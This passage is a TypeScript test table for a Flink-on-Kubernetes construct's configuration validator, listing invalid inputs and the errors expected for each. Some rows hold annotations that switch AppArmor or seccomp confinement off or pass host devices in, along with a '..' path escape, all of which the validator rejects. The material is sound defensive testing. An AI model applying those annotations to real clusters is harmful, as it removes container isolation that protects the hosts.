      taskManager: { replicas: 2, volumes: [{ volume: { name: 'My_Vol', emptyDir: {} }, mountPath: '/data' }] },
    })),
    'taskManager.volumes[0].volume.name: "My_Vol" - is not a valid volume name: at most 63 lowercase letters, digits and "-", starting and ending with a letter or digit',
  ),
  row(
    'two volumes with one name',
    'taskManager: { volumes: [{ volume: { name: "d", ... }, mountPath: "/a" }, { volume: { name: "d", ... }, mountPath: "/b" }] }',
    ex(() => ({
      taskManager: {
        replicas: 2,
        volumes: [
          { volume: { name: 'd', emptyDir: {} }, mountPath: '/a' },
          { volume: { name: 'd', emptyDir: {} }, mountPath: '/b' },
        ],
      },
    })),
    'taskManager.volumes[1].volume.name: "d" - names two volumes; give each volume its own name',
  ),
  row(
    'two volumes on one mount path',
    'taskManager: { volumes: [{ volume: { name: "a", ... }, mountPath: "/data" }, { volume: { name: "b", ... }, mountPath: "/data/" }] }',
    ex(() => ({
      taskManager: {
        replicas: 2,
        volumes: [
          { volume: { name: 'a', emptyDir: {} }, mountPath: '/data' },
          { volume: { name: 'b', emptyDir: {} }, mountPath: '/data/' },
        ],
      },
    })),
    'taskManager.volumes[1].mountPath: "/data/" - is the mount path of another volume; mount each volume at its own path',
  ),
  row(
    'relative mount path',
    'taskManager: { volumes: [{ volume: { name: "d", emptyDir: {} }, mountPath: "data" }] }',
    ex(() => ({ taskManager: { replicas: 2, volumes: [{ volume: { name: 'd', emptyDir: {} }, mountPath: 'data' }] } })),
    'taskManager.volumes[0].mountPath: "data" - must be an absolute path, e.g. /opt/flink/extra/d',
  ),
  row(
    'affinity not an object',
    'taskManager: { affinity: "spread" }',
    ex(() => ({ taskManager: { replicas: 2, affinity: 'spread' } })),
    'taskManager.affinity: "spread" - must be an object, e.g. { nodeAffinity: { ... } }',
  ),
  row(
    'pod annotations not an object',
    'jobManager: { podAnnotations: "team=data" }',
    ex(() => ({ jobManager: { podAnnotations: 'team=data' } })),
    'jobManager.podAnnotations: "team=data" - must be an object of annotation keys to values, e.g. { "example.com/owner": "data-team" }',
  ),
  row(
    'pod annotation key invalid',
    'jobManager: { podAnnotations: { "owner team": "data" } }',
    ex(() => ({ jobManager: { podAnnotations: { 'owner team': 'data' } } })),
    'jobManager.podAnnotations["owner team"]: "owner team" - is not a valid annotation key (e.g. "example.com/owner")',
  ),
  row(
    'pod annotation value not a string',
    'jobManager: { podAnnotations: { "example.com/replicas": 2 } }',
    ex(() => ({ jobManager: { podAnnotations: { 'example.com/replicas': 2 } } })),
    'jobManager.podAnnotations["example.com/replicas"]: 2 - must be a string; quote numbers and booleans, e.g. "1"',
  ),
  row(
    'pod annotations too large',
    'jobManager: { podAnnotations: { "example.com/blob": "x".repeat(300 * 1024) } }',
    ex(() => ({ jobManager: { podAnnotations: { 'example.com/blob': 'x'.repeat(300 * 1024) } } })),
    'jobManager.podAnnotations: "307216 bytes" - exceeds the 256 KiB Kubernetes allows for an object\'s annotations; keep large data in a ConfigMap',
  ),
  row(
    'pod annotation switching AppArmor off',
    'jobManager: { podAnnotations: { "container.apparmor.security.beta.kubernetes.io/flink-main-container": "unconfined" } }',
    ex(() => ({
      jobManager: {
        podAnnotations: { 'container.apparmor.security.beta.kubernetes.io/flink-main-container': 'unconfined' },
      },
    })),
    'jobManager.podAnnotations["container.apparmor.security.beta.kubernetes.io/flink-main-container"]: "unconfined" - switches AppArmor confinement off (the "restricted" Pod Security Standard the construct\'s pods meet allows only runtime/default or localhost/<profile>); remove it',
  ),
  row(
    'pod annotation switching seccomp off',
    'taskManager: { podAnnotations: { "seccomp.security.alpha.kubernetes.io/pod": "unconfined" } }',
    ex(() => ({
      taskManager: { replicas: 2, podAnnotations: { 'seccomp.security.alpha.kubernetes.io/pod': 'unconfined' } },
    })),
    'taskManager.podAnnotations["seccomp.security.alpha.kubernetes.io/pod"]: "unconfined" - would replace the RuntimeDefault seccomp profile the construct sets on the pod and every container (and a value that disagrees with that field makes the API server refuse the pods); remove it',
  ),
  row(
    'pod annotation asking CRI-O for host devices',
    'jobManager: { podAnnotations: { "io.kubernetes.cri-o.Devices": "/dev/fuse" } }',
    ex(() => ({ jobManager: { podAnnotations: { 'io.kubernetes.cri-o.Devices': '/dev/fuse' } } })),
    'jobManager.podAnnotations["io.kubernetes.cri-o.Devices"]: "/dev/fuse" - asks the container runtime (CRI-O) to swap the seccomp profile or pass host devices in, around the pod\'s security context; remove it',
  ),
  row(
    'HA enabled not a boolean',
    'highAvailability: { enabled: "yes" }',
    ex(() => ({ highAvailability: { enabled: 'yes' } })),
    'highAvailability.enabled: "yes" - must be true or false',
  ),
  row(
    'HA without storage',
    'highAvailability: {}',
    ex(() => ({ highAvailability: {} })),
    'highAvailability.storage: undefined - is required with HA: use HaStorage.newClaim(), HaStorage.existingClaim("name") or HaStorage.objectStore("s3://bucket/path")',
  ),
  row(
    'HA storage as a plain object',
    'highAvailability: { storage: { claimName: "ha" } }',
    ex(() => ({ highAvailability: { storage: { claimName: 'ha' } } })),
    'highAvailability.storage: {"claimName":"ha"} - must be created with HaStorage.newClaim(), HaStorage.existingClaim() or HaStorage.objectStore()',
  ),
  row(
    'misspelt HaStorage factory prop',
    'HaStorage.objectStore("s3://b/ha", { credentials: { envFromSecrets: "aws" } })',
    ex(() => ({
      highAvailability: {
        storage: HaStorage.objectStore('s3://b/ha', { credentials: { envFromSecrets: 'aws' } } as any),
      },
    })),
    'highAvailability.storage.credentials: "envFromSecrets" - is not a field of ObjectStoreCredentials: it would be ignored; did you mean "envFromSecret"?',
  ),
  row(
    'credentials file variable with a reserved name',
    'HaStorage.objectStore("gs://b/ha", { credentials: { fileSecret: { name: "gcs", key: "key.json", fileEnv: "JOB_MANAGER_RPC_ADDRESS" } } })',
    ex(() => ({
      highAvailability: {
        storage: HaStorage.objectStore('gs://b/ha', {
          credentials: { fileSecret: { name: 'gcs', key: 'key.json', fileEnv: 'JOB_MANAGER_RPC_ADDRESS' } },
        }),
      },
    })),
    'highAvailability.storage.credentials.fileSecret.fileEnv: "JOB_MANAGER_RPC_ADDRESS" - is reserved: the construct sets the address each JobManager advertises (its pod IP with HA); a fixed value would break leader election',
  ),
  row(
    'credentials file key ".."',
    'HaStorage.objectStore("gs://b/ha", { credentials: { fileSecret: { name: "gcs", key: "..", fileEnv: "GOOGLE_APPLICATION_CREDENTIALS" } } })',
    ex(() => ({
      highAvailability: {
        storage: HaStorage.objectStore('gs://b/ha', {
          credentials: { fileSecret: { name: 'gcs', key: '..', fileEnv: 'GOOGLE_APPLICATION_CREDENTIALS' } },
        }),
      },
    })),
    'highAvailability.storage.credentials.fileSecret.key: ".." - is not a valid Secret key (letters, digits, "-", "_" and ".")',
  ),
  row(
    'pod env variable the credentials file sets',
    'HaStorage.objectStore("gs://b/ha", { credentials: { fileSecret: { ..., fileEnv: "GOOGLE_APPLICATION_CREDENTIALS" } } }) and jobManager.env GOOGLE_APPLICATION_CREDENTIALS',
    ex(() => ({
      highAvailability: {
        storage: HaStorage.objectStore('gs://b/ha', {
          credentials: { fileSecret: { name: 'gcs', key: 'key.json', fileEnv: 'GOOGLE_APPLICATION_CREDENTIALS' } },
        }),
      },
      jobManager: { env: [{ name: 'GOOGLE_APPLICATION_CREDENTIALS', value: '/tmp/other.json' }] },
    })),
    'jobManager.env[0].name: "GOOGLE_APPLICATION_CREDENTIALS" - is set by the construct from highAvailability.storage credentials.fileSecret.fileEnv; remove it here',
  ),
  row(
    'HA storage while HA is off',
    'highAvailability: { enabled: false, storage: HaStorage.newClaim() }',
    ex(() => ({ jobManager: { replicas: 1 }, highAvailability: { enabled: false, storage: HaStorage.newClaim() } })),
    'highAvailability.storage: HaStorage.newClaim(...) - has no effect while highAvailability.enabled is false; remove it or enable HA',
  ),
  row(
    'lease duration given as a string (a Duration is expected)',
    'highAvailability: { leaseDuration: "15s" }',
    ex((p) => ({ highAvailability: { ...p.highAvailability, leaseDuration: '15s' } })),
    'highAvailability.leaseDuration: "15s" - is not a Duration; pass e.g. Duration.seconds(15) from cdk8s',
  ),
  row(
    'lease duration with fractional milliseconds',
    'highAvailability: { leaseDuration: Duration.millis(15000.5) }',
    ex((p) => ({ highAvailability: { ...p.highAvailability, leaseDuration: Duration.millis(15000.5) } })),
    'highAvailability.leaseDuration: 15 seconds 0.5 millis - must be a non-negative whole number of milliseconds',
  ),
  row(
    'lease duration of days',
    'highAvailability: { leaseDuration: Duration.days(2) }',
    ex((p) => ({ highAvailability: { ...p.highAvailability, leaseDuration: Duration.days(2) } })),
    "highAvailability.leaseDuration: 2 days - is longer than 5 minutes: when the leader's pod or node dies without releasing the lease, the standbys wait for it to expire, so Flink would stay without a leader (jobs stopped, REST down) that long at every such failover. Flink accepts it, but HA then buys little; use seconds (Flink's default is Duration.seconds(15))",
  ),
  row(
    'retry period below one second',
    'highAvailability: { retryPeriod: Duration.millis(500) }',
    ex((p) => ({ highAvailability: { ...p.highAvailability, retryPeriod: Duration.millis(500) } })),
    'highAvailability.retryPeriod: 500 millis - must be at least 1 second; shorter periods load the API server for no gain',
  ),
  row(
    'renew deadline above the lease',
    'highAvailability: { renewDeadline: Duration.seconds(20) }',
    ex((p) => ({ highAvailability: { ...p.highAvailability, renewDeadline: Duration.seconds(20) } })),
    'highAvailability.renewDeadline: 20 seconds - must not exceed leaseDuration (15 seconds), or a leader could keep acting after its lease expired',
  ),
  row(
    'retry period too close to the renew deadline',
    'highAvailability: { retryPeriod: Duration.seconds(13) }',
    ex((p) => ({ highAvailability: { ...p.highAvailability, retryPeriod: Duration.seconds(13) } })),
    'highAvailability.retryPeriod: 13 seconds - must be shorter than renewDeadline / 1.2 (15 seconds / 1.2), or a leader may lose its lease before its second renewal attempt',
  ),
  row(
    'ReadWriteOnce claim with 2 candidates',
    'HaStorage.newClaim({ accessMode: AccessMode.READ_WRITE_ONCE })',
    ex(() => ({ highAvailability: { storage: HaStorage.newClaim({ accessMode: AccessMode.READ_WRITE_ONCE }) } })),
    'highAvailability.storage.accessMode: "ReadWriteOnce" - cannot be shared by 2 pods (2 JobManager candidates) that may run on different nodes; use AccessMode.READ_WRITE_MANY (e.g. an NFS or CephFS StorageClass) or HaStorage.objectStore()',
  ),
  row(
    'access mode not from AccessMode',
    'HaStorage.newClaim({ accessMode: "RWX" })',
    ex(() => ({ highAvailability: { storage: HaStorage.newClaim({ accessMode: 'RWX' as any }) } })),
    'highAvailability.storage.accessMode: "RWX" - must be one of AccessMode.READ_WRITE_ONCE, AccessMode.READ_WRITE_MANY, AccessMode.READ_WRITE_ONCE_POD',
  ),
  row(
    'claim size not a Size',
    'HaStorage.newClaim({ size: "1Gi" })',
    ex(() => ({ highAvailability: { storage: HaStorage.newClaim({ size: '1Gi' as any }) } })),
    'highAvailability.storage.size: "1Gi" - is not a Size; pass e.g. Size.mebibytes(1024) from cdk8s',
  ),
  row(
    'existing claim with an empty name',
    'HaStorage.existingClaim("")',
    ex(() => ({ highAvailability: { storage: HaStorage.existingClaim('') } })),
    'highAvailability.storage.claimName: "" - is not a valid PersistentVolumeClaim name: lowercase letters, digits, "-" and ".", starting and ending with a letter or digit',
  ),
  row(
    'object store URI without a scheme',
    'HaStorage.objectStore("flink-state/ha")',
    ex(() => ({ highAvailability: { storage: HaStorage.objectStore('flink-state/ha') } })),
    'highAvailability.storage: "flink-state/ha" - has no scheme; write file:///flink-state/ha for a mounted path or s3://bucket/path for an object store',
  ),
  row(
    'object store URI with white space',
    'HaStorage.objectStore("s3://flink state/ha")',
    ex(() => ({ highAvailability: { storage: HaStorage.objectStore('s3://flink state/ha') } })),
    'highAvailability.storage: "s3://flink state/ha" - must not contain white space',
  ),
  row(
    'object store scheme without a plugin',
    'HaStorage.objectStore("hdfs://namenode/flink")',
    ex(() => ({ highAvailability: { storage: HaStorage.objectStore('hdfs://namenode/flink') } })),
    'highAvailability.storage: "hdfs://namenode/flink" - uses scheme "hdfs://", which has no Flink filesystem plugin in the official image; use file:// or one of s3://, s3p://, s3a://, gs://, abfs://, abfss://, wasb://, wasbs://, oss://',
  ),
  row(
    'object store URI without a bucket',
    'HaStorage.objectStore("s3:///ha")',
    ex(() => ({ highAvailability: { storage: HaStorage.objectStore('s3:///ha') } })),
    'highAvailability.storage: "s3:///ha" - needs a bucket or container: s3://<bucket>/<path>',
  ),
  row(
    'file:// URI as an object store',
    'HaStorage.objectStore("file:///opt/flink/ha")',
    ex(() => ({ highAvailability: { storage: HaStorage.objectStore('file:///opt/flink/ha') } })),
    'highAvailability.storage: "file:///opt/flink/ha" - is a file:// path; use HaStorage.newClaim() or HaStorage.existingClaim() so every candidate mounts the same volume',
  ),
  row(
    'object store URI not a string',
    'HaStorage.objectStore(42)',
    ex(() => ({ highAvailability: { storage: HaStorage.objectStore(42 as any) } })),
    'highAvailability.storage: 42 - must be a URI string such as s3://bucket/flink or file:///opt/flink/ha',
  ),
  row(
    'credentials file variable not a variable name',
    'credentials: { fileSecret: { name: "gcs", key: "key.json", fileEnv: "1CREDS" } }',
    ex(() => ({
      highAvailability: {
        storage: HaStorage.objectStore('gs://b/ha', {
          credentials: { fileSecret: { name: 'gcs', key: 'key.json', fileEnv: '1CREDS' } },
        }),
      },
    })),
    'highAvailability.storage.credentials.fileSecret.fileEnv: "1CREDS" - must be an environment variable name such as GOOGLE_APPLICATION_CREDENTIALS',
  ),
  row(
    'credentials file key invalid',
    'credentials: { fileSecret: { name: "gcs", key: "key json", fileEnv: "GOOGLE_APPLICATION_CREDENTIALS" } }',
    ex(() => ({
      highAvailability: {
        storage: HaStorage.objectStore('gs://b/ha', {
          credentials: { fileSecret: { name: 'gcs', key: 'key json', fileEnv: 'GOOGLE_APPLICATION_CREDENTIALS' } },
        }),
      },
    })),
    'highAvailability.storage.credentials.fileSecret.key: "key json" - is not a valid Secret key (letters, digits, "-", "_" and ".")',
  ),
  row(
    'jar without a scheme',
    'job: { jarUri: "/opt/flink/usrlib/job.jar" }',
    ex(() => ({ job: { jarUri: '/opt/flink/usrlib/job.jar' } })),
    'job.jarUri: "/opt/flink/usrlib/job.jar" - has no scheme; write local:///opt/flink/usrlib/job.jar for a jar inside the image',
  ),
  row(
    'remote jar',
    'job: { jarUri: "s3://bucket/job.jar" }',
    ex(() => ({ job: { jarUri: 's3://bucket/job.jar' } })),
    'job.jarUri: "s3://bucket/job.jar" - uses s3://, but standalone application mode runs a jar that is inside the image; bake the jar into your image and use local:///opt/flink/usrlib/<jar>',
  ),
  row(
    'jar fetched over https',
    'job: { jarUri: "https://example.com/job.jar" }',
    ex((p) => ({ job: { ...p.job, jarUri: 'https://example.com/job.jar' } })),
    'job.jarUri: "https://example.com/job.jar" - uses https://, but standalone application mode runs a jar that is inside the image; bake the jar into your image and use local:///opt/flink/usrlib/<jar>',
  ),
  row(
    'jar path relative or not a .jar',
    'job: { jarUri: "local://job.jar" }',
    ex(() => ({ job: { jarUri: 'local://job.jar' } })),
    'job.jarUri: "local://job.jar" - must name an absolute path to a .jar, e.g. local:///opt/flink/examples/streaming/WordCount.jar',
  ),
  row(
    'entry class not a Java class name',
    'job: { entryClass: "com.example.1Job" }',
    ex((p) => ({ job: { ...p.job, entryClass: 'com.example.1Job' } })),
    'job.entryClass: "com.example.1Job" - is not a Java class name such as org.example.MyJob',
  ),
  row(
    'job args not strings',
    'job: { args: ["--parallelism", 4] }',
    ex((p) => ({ job: { ...p.job, args: ['--parallelism', 4] } })),
    'job.args: ["--parallelism",4] - must be a list of strings',
  ),
  row(
    'parallelism above the task slots',
    'job: { parallelism: 3 } with 2 TaskManagers x 1 slot',
    ex((p) => ({ job: { ...p.job, parallelism: 3 } })),
    'job.parallelism: 3 - exceeds the 2 task slots (taskManager.replicas x taskManager.taskSlots), so the job could never be scheduled; raise replicas or slots, or lower parallelism',
  ),
  row(
    'job id not 32 hex characters',
    'job: { jobId: "my-job" }',
    ex((p) => ({ job: { ...p.job, jobId: 'my-job' } })),
    'job.jobId: "my-job" - must be 32 lowercase hex characters (a Flink JobID)',
  ),
  row(
    'savepoint path without a scheme',
    'job: { initialSavepointPath: "/savepoints/sp-1" }',
    ex((p) => ({ job: { ...p.job, initialSavepointPath: '/savepoints/sp-1' } })),
    'job.initialSavepointPath: "/savepoints/sp-1" - has no scheme; write file:///savepoints/sp-1 for a mounted path or s3://bucket/path for an object store',
  ),
  row(
    'file:// savepoint path without an absolute path',
    'job: { initialSavepointPath: "file://savepoints/sp-1" }',
    ex((p) => ({ job: { ...p.job, initialSavepointPath: 'file://savepoints/sp-1' } })),
    'job.initialSavepointPath: "file://savepoints/sp-1" - needs an absolute path: file:///absolute/path (three slashes)',
  ),
  row(
    'allowNonRestoredState not a boolean',
    'job: { allowNonRestoredState: "true" }',
    ex((p) => ({ job: { ...p.job, allowNonRestoredState: 'true' } })),
    'job.allowNonRestoredState: "true" - must be true or false',
  ),
  row(
    'restart strategy as a plain object',
    'restartStrategy: { type: "fixed-delay" }',
    ex(() => ({ restartStrategy: { type: 'fixed-delay' } })),
    'restartStrategy: {"type":"fixed-delay"} - must be created with RestartStrategy.none(), .fixedDelay(), .failureRate() or .exponentialDelay()',
  ),
  row(
    'fixed-delay attempts zero',
    'RestartStrategy.fixedDelay({ attempts: 0, delay: Duration.seconds(10) })',
    ex(() => ({ restartStrategy: RestartStrategy.fixedDelay({ attempts: 0, delay: Duration.seconds(10) }) })),
    'restartStrategy.fixedDelay.attempts: 0 - must be a whole number >= 1',
  ),
  row(
    'failure-rate interval zero',
    'RestartStrategy.failureRate({ maxFailuresPerInterval: 3, interval: Duration.seconds(0), delay: Duration.seconds(0) })',
    ex(() => ({
      restartStrategy: RestartStrategy.failureRate({
        maxFailuresPerInterval: 3,
        interval: Duration.seconds(0),
        delay: Duration.seconds(0),
      }),
    })),
    'restartStrategy.failureRate.interval: 0 seconds - must be longer than zero',
  ),
  row(
    'failure-rate delay not shorter than the interval',
    'RestartStrategy.failureRate({ maxFailuresPerInterval: 3, interval: Duration.minutes(1), delay: Duration.minutes(1) })',
    ex(() => ({
      restartStrategy: RestartStrategy.failureRate({
        maxFailuresPerInterval: 3,
        interval: Duration.minutes(1),
        delay: Duration.minutes(1),
      }),
    })),
    'restartStrategy.failureRate.delay: 1 minute - must be shorter than interval (1 min), or no second failure can ever fall inside the window',
  ),
  row(
    'exponential-delay initial backoff zero',
    'RestartStrategy.exponentialDelay({ initialBackoff: Duration.seconds(0) })',
    ex(() => ({ restartStrategy: RestartStrategy.exponentialDelay({ initialBackoff: Duration.seconds(0) }) })),
    'restartStrategy.exponentialDelay.initialBackoff: 0 seconds - must be longer than zero',
  ),
  row(
    'exponential-delay max below initial backoff',
    'RestartStrategy.exponentialDelay({ initialBackoff: Duration.seconds(10), maxBackoff: Duration.seconds(5) })',
    ex(() => ({
      restartStrategy: RestartStrategy.exponentialDelay({
        initialBackoff: Duration.seconds(10),
        maxBackoff: Duration.seconds(5),
      }),
    })),
    'restartStrategy.exponentialDelay.maxBackoff: 5 seconds - must not be shorter than initialBackoff (10 seconds)',
  ),
  row(
    'exponential-delay reset threshold zero',
    'RestartStrategy.exponentialDelay({ resetBackoffThreshold: Duration.seconds(0) })',
    ex(() => ({ restartStrategy: RestartStrategy.exponentialDelay({ resetBackoffThreshold: Duration.seconds(0) }) })),
    'restartStrategy.exponentialDelay.resetBackoffThreshold: 0 seconds - must be longer than zero',
  ),
  row(
    'exponential-delay jitter above 1',
    'RestartStrategy.exponentialDelay({ jitterFactor: 2 })',
    ex(() => ({ restartStrategy: RestartStrategy.exponentialDelay({ jitterFactor: 2 }) })),
    'restartStrategy.exponentialDelay.jitterFactor: 2 - must be a number between 0 and 1',
  ),
  row(
    'checkpoint interval given as a string',
    'checkpointing: { interval: "15s" }',
    ex(() => ({ checkpointing: { interval: '15s' } })),
    'checkpointing.interval: "15s" - is not a Duration; pass e.g. Duration.seconds(15) from cdk8s',
  ),
  row(
    'checkpoint interval below 10 ms',
    'checkpointing: { interval: Duration.millis(5) }',
    ex(() => ({ checkpointing: { interval: Duration.millis(5) } })),
    "checkpointing.interval: 5 millis - must be at least 10 milliseconds (Flink's minimum checkpoint interval)",
  ),
  row(
    'checkpoints without HA storage or a directory',
    'highAvailability: { enabled: false }, checkpointing: { interval: Duration.seconds(30) }',
    ex(() => ({
      jobManager: { replicas: 1 },
      highAvailability: { enabled: false },
      checkpointing: { interval: Duration.seconds(30) },
    })),
    'checkpointing.directory: undefined - is required when there is no HA storage to put checkpoints under; set it to an s3://, gs:// or abfss:// URI',
  ),
  row(
    'checkpoint directory outside shared storage',
    'checkpointing: { interval: Duration.seconds(30), directory: "file:///data/checkpoints" }',
    ex(() => ({ checkpointing: { interval: Duration.seconds(30), directory: 'file:///data/checkpoints' } })),
    'checkpointing.directory: "file:///data/checkpoints" - is a file:// path outside shared storage; use a path under file:///opt/flink/ha with HA storage on a claim, or an object store (s3://, gs://, abfss://)',
  ),
  row(
    'checkpoint directory climbing out of the HA mount with ".."',
    'checkpointing: { interval: Duration.seconds(30), directory: "file:///opt/flink/ha/../../tmp/cp" }',
    ex(() => ({ checkpointing: { interval: Duration.seconds(30), directory: 'file:///opt/flink/ha/../../tmp/cp' } })),
    'checkpointing.directory: "file:///opt/flink/ha/../../tmp/cp" - must not contain "." or ".." path segments; write the directory as a plain path under the mount',
  ),
  row(
    'checkpoint mode in lower case',
    'checkpointing: { interval: Duration.seconds(30), mode: "exactly_once" }',
    ex(() => ({ checkpointing: { interval: Duration.seconds(30), mode: 'exactly_once' } })),
    'checkpointing.mode: "exactly_once" - must be one of CheckpointingMode.EXACTLY_ONCE, CheckpointingMode.AT_LEAST_ONCE',
  ),
  row(
    'escape hatch: key set by the construct',
    'flinkConfiguration: { "kubernetes.cluster-id": "x" }',
    ex(() => ({ flinkConfiguration: { 'kubernetes.cluster-id': 'x' } })),
    'flinkConfiguration["kubernetes.cluster-id"]: "x" - is set by the construct; use clusterId instead',
  ),
  row(
    'escape hatch: port pinned by the construct',
    'flinkConfiguration: { "rest.port": 8080 }',
    ex(() => ({ flinkConfiguration: { 'rest.port': 8080 } })),
    'flinkConfiguration["rest.port"]: 8080 - is set by the construct (it pins Flink\'s ports so containerPorts, Services and NetworkPolicies agree); remove it',
  ),
  row(
    'escape hatch: an inline S3 secret key',
    'flinkConfiguration: { "s3.secret-key": "wJalr..." }',
    ex(() => ({ flinkConfiguration: { 's3.secret-key': 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' } })),
    'flinkConfiguration["s3.secret-key"]: "(hidden)" - would write a credential into the ConfigMap, and so into your Git repository; for S3 use highAvailability.storage credentials.envFromSecret with a Secret holding AWS_ACCESS_KEY_ID and AWS_SECRET_ACCESS_KEY (or workload identity)',
  ),
  row(
    'escape hatch: an SSL keystore password',
    'flinkConfiguration: { "security.ssl.internal.keystore-password": "..." }',
    ex(() => ({ flinkConfiguration: { 'security.ssl.internal.keystore-password': 'changeit' } })),
    'flinkConfiguration["security.ssl.internal.keystore-password"]: "(hidden)" - would write a credential into the ConfigMap, and so into your Git repository; Flink reads this value only from its configuration file, and the construct cannot fill it from a Secret yet; use an authentication that needs no secret in the config',
  ),
  row(
    'escape hatch: a per-bucket S3A secret key',
    'flinkConfiguration: { "fs.s3a.bucket.orders.secret.key": "wJalr..." }',
    ex(() => ({ flinkConfiguration: { 'fs.s3a.bucket.orders.secret.key': 'wJalrXUtnFEMI/K7MDENG' } })),
    'flinkConfiguration["fs.s3a.bucket.orders.secret.key"]: "(hidden)" - would write a credential into the ConfigMap, and so into your Git repository; for S3 use highAvailability.storage credentials.envFromSecret with a Secret holding AWS_ACCESS_KEY_ID and AWS_SECRET_ACCESS_KEY (or workload identity)',
  ),
  row(
    'escape hatch: a metrics reporter API key (not echoed even with the wrong type)',
    'flinkConfiguration: { "metrics.reporter.dghttp.apikey": ["abc123"] }',
    ex(() => ({ flinkConfiguration: { 'metrics.reporter.dghttp.apikey': ['abc123'] } })),
    'flinkConfiguration["metrics.reporter.dghttp.apikey"]: "(hidden)" - would write a credential into the ConfigMap, and so into your Git repository; Flink reads this value only from its configuration file, and the construct cannot fill it from a Secret yet; use an authentication that needs no secret in the config',
  ),
  row(
    'escape hatch: a password as a JVM system property',
    'flinkConfiguration: { "env.java.opts.taskmanager": "-Djavax.net.ssl.keyStorePassword=..." }',
    ex(() => ({ flinkConfiguration: { 'env.java.opts.taskmanager': '-Djavax.net.ssl.keyStorePassword=changeit' } })),
    'flinkConfiguration["env.java.opts.taskmanager"]: "(hidden)" - sets the credential javax.net.ssl.keyStorePassword inline, which would write it into the ConfigMap, and so into your Git repository; keep it out of the configuration (a key file or keystore mounted from a Secret, or workload identity)',
  ),
  row(
    'escape hatch: Total Flink Memory above the process size',
    'flinkConfiguration: { "taskmanager.memory.flink.size": "2g" } (TaskManager process 1024Mi)',
    ex(() => ({ flinkConfiguration: { 'taskmanager.memory.flink.size': '2g' } })),
    'flinkConfiguration["taskmanager.memory.flink.size"]: "2g" - conflicts with the process size the construct sets from taskManager.resources.memory (1024Mi): Total Flink Memory (2048m) and JVM Metaspace (256m) exceed the process size, leaving nothing for JVM Overhead (it needs 192m to 1024m), so Flink would refuse to start. Remove it, or make the sizes add up (Flink\'s memory model: https://nightlies.apache.org/flink/flink-docs-stable/docs/deployment/memory/mem_setup/)',
  ),
  row(
    'session cluster: default parallelism above the slots',
    'no job, taskManager: { replicas: 2, taskSlots: 2 }, flinkConfiguration: { "parallelism.default": 8 }',
    ex(() => ({
      job: undefined,
      taskManager: { replicas: 2, taskSlots: 2 },
      flinkConfiguration: { 'parallelism.default': 8 },
    })),
    'flinkConfiguration["parallelism.default"]: 8 - exceeds the 4 task slots (taskManager.replicas x taskManager.taskSlots), so a job submitted without its own parallelism could never be scheduled; raise replicas or slots, or lower it',
  ),
  row(
    'escape hatch: state.checkpoints.dir on 1.20',
    'flinkVersion: FlinkVersion.V1_20, flinkConfiguration: { "state.checkpoints.dir": "s3://b/cp" }',
    ex(() => ({ flinkConfiguration: { 'state.checkpoints.dir': 's3://b/cp' } }), FlinkVersion.V1_20),
    'flinkConfiguration["state.checkpoints.dir"]: "s3://b/cp" - is set by the construct; use checkpointing instead',
  ),
  row(
    'escape hatch: not an option of the declared version (with the nearest real key)',
    'flinkConfiguration: { "pipeline.nmae": "orders" }',
    ex(() => ({ flinkConfiguration: { 'pipeline.nmae': 'orders' } })),
    'flinkConfiguration["pipeline.nmae"]: "orders" - is not an option of Flink 1.19; did you mean "pipeline.name"?',
  ),
  row(
    'escape hatch: a value of the wrong type for the option',
    'flinkConfiguration: { "web.submit.enable": "maybe" }',
    ex(() => ({ flinkConfiguration: { 'web.submit.enable': 'maybe' } })),
    'flinkConfiguration["web.submit.enable"]: "maybe" - is not a valid value: "maybe" is not a boolean; expected true or false',
  ),
  row(
    'escape hatch: an internal option',
    'flinkConfiguration: { "$internal.deployment.config-dir": "/tmp" }',
    ex(() => ({ flinkConfiguration: { '$internal.deployment.config-dir': '/tmp' } })),
    'flinkConfiguration["$internal.deployment.config-dir"]: "/tmp" - is an internal option Flink sets itself; remove it',
  ),
  row(
    'escape hatch: an option newer than the declared version',
    'flinkVersion: FlinkVersion.V1_18, flinkConfiguration: { "rest.profiling.enabled": true }',
    ex(() => ({ flinkConfiguration: { 'rest.profiling.enabled': true } }), FlinkVersion.V1_18),
    'flinkConfiguration["rest.profiling.enabled"]: true - is not an option of Flink 1.18 (it exists from 1.19 on); remove it or raise flinkVersion',
  ),
  row(
    'escape hatch: key removed in 2.0 (with replacement)',
    'flinkVersion: FlinkVersion.V2_0, flinkConfiguration: { "state.backend.rocksdb.checkpointdir": "/tmp/rocks" }',
    ex(() => ({ flinkConfiguration: { 'state.backend.rocksdb.checkpointdir': '/tmp/rocks' } }), FlinkVersion.V2_0),
    'flinkConfiguration["state.backend.rocksdb.checkpointdir"]: "/tmp/rocks" - was removed in Flink 2.0 (declared flinkVersion is 2.0); did you mean "state.backend.rocksdb.localdir"?',
  ),
  row(
    'escape hatch: key removed in 2.0 (no replacement)',
    'flinkVersion: FlinkVersion.V2_0, flinkConfiguration: { "cluster.evenly-spread-out-slots": true }',
    ex(() => ({ flinkConfiguration: { 'cluster.evenly-spread-out-slots': true } }), FlinkVersion.V2_0),
    'flinkConfiguration["cluster.evenly-spread-out-slots"]: true - was removed in Flink 2.0 (declared flinkVersion is 2.0); it has no replacement, remove it',
  ),
  row(
    'escape hatch: removed key whose replacement was removed too',
    'flinkVersion: FlinkVersion.V2_0, flinkConfiguration: { "jobmanager.web.backpressure.num-samples": 100 }',
    ex(() => ({ flinkConfiguration: { 'jobmanager.web.backpressure.num-samples': 100 } }), FlinkVersion.V2_0),
    'flinkConfiguration["jobmanager.web.backpressure.num-samples"]: 100 - was removed in Flink 2.0 (declared flinkVersion is 2.0); it has no replacement, remove it',
  ),
  row(
    'escape hatch: legacy and new key of one option',
    'flinkConfiguration: { "state.backend": "rocksdb", "state.backend.type": "rocksdb" }',
    ex(() => ({ flinkConfiguration: { 'state.backend': 'rocksdb', 'state.backend.type': 'rocksdb' } })),
    'flinkConfiguration["state.backend"]: "rocksdb" - conflicts with "state.backend.type": one key is a prefix of the other, usually a legacy key beside its replacement, which is ambiguous; keep only one of them',
  ),
  row(
    'escape hatch: key with a space',
    'flinkConfiguration: { "pipeline name": "x" }',
    ex(() => ({ flinkConfiguration: { 'pipeline name': 'x' } })),
    'flinkConfiguration: "pipeline name" - is not a Flink configuration key (letters, digits, ".", "-" and "_" only, no spaces or colons)',
  ),
  row(
    'escape hatch: value an object',
    'flinkConfiguration: { "pipeline.name": { a: 1 } }',
    ex(() => ({ flinkConfiguration: { 'pipeline.name': { a: 1 } } })),
    'flinkConfiguration["pipeline.name"]: {"a":1} - must be a string, a finite number or a boolean',
  ),
